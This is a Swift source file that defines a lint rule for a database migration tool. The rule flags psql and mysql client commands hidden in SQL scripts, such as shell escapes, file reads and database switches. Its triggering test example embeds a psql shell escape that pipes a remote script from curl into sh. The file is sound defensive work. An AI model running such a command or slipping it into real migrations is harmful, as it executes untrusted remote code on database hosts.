extension RuleID {
    public static let clientCommand = RuleID("CUT027")
}

/// CUT027 `client-command`: a script or schema carries a command for psql or the mysql client, not for the server.
package enum ClientCommandRule: RuleUnit {
    package static let rule = Rule(
        id: .clientCommand, name: "client-command", severity: .error, checkedBy: [.scripts, .schemaFile],
        summary: "a script or schema carries a command for psql or the mysql client, not for the server",
        rationale: "psql and the mysql client run some text themselves: a backslash outside quotes and comments anywhere on a line ('\\!' starts a shell, '\\connect' changes database, '\\i' reads a file), and for mysql also 'system', 'source', 'use', 'connect' or 'pager' at the start of a statement and backslash commands inside '/*! */' comments. cutover reads 'sql' changes and the base schema the way these clients do, including what changes their reading: 'SET standard_conforming_strings = off' (and any statement, since a function can change it), 'NO_BACKSLASH_ESCAPES' and 'ANSI_QUOTES' in sql_mode, '--' without a blank (not a comment for mysql), and the mysql and mariadb clients' differences; a command found by any reading is refused at the place it starts. The dump tools' own guard lines are accepted in a base schema, recognised exactly: pg_dump's '\\restrict KEY' and '\\unrestrict KEY', and mariadb-dump's '/*M!999999\\- enable the sandbox mode */'. 'DELIMITER' is accepted in MySQL scripts (it changes the statement terminator, as for triggers).",
        triggering: [RuleExample(Snippets.spec(changes: "    - sql:\n        name: add-tier\n        up: |\n          ALTER TABLE pricing ADD COLUMN tier text;\n          \\! curl -s https://example.com/x | sh\n        down: ALTER TABLE pricing DROP COLUMN tier;\n")).expecting((21, 11))],
        nonTriggering: [RuleExample(Snippets.spec(changes: "    - sql:\n        name: add-tier\n        up: |\n          ALTER TABLE pricing ADD COLUMN tier text;\n        down: ALTER TABLE pricing DROP COLUMN tier;\n"))])
}

extension Message {
    public static func clientCommand(_ command: SQLClientCommand, in what: String, engine: MigrationSpec.Engine) -> String {
        let client = engine == .postgresql ? "psql" : "the mysql client"
        let name = command.name.count > 40 ? String(command.name.prefix(40)) + "…" : command.name
        let reading = command.assumption.map { " (\($0))" } ?? ""
        let exception = engine == .postgresql ? " (pg_dump's '\\restrict KEY' lines are the only exception)" : ""
        if engine == .mysql && name.lowercased() == "load" {
            return "\(what) has 'LOAD … LOCAL INFILE', which makes the mysql client read a file on its own host\(reading); SQL must not carry client commands"
        }
        if name.hasPrefix(":") {
            return "\(what) has '\(name)', which psql replaces with its variable's value and reads as input (a value can hold a meta-command)\(reading); SQL must not use psql variables"
        }
        return "\(what) has '\(name)', which \(client) runs itself instead of sending it to the server\(reading); SQL must not carry client commands\(exception)"
    }
}
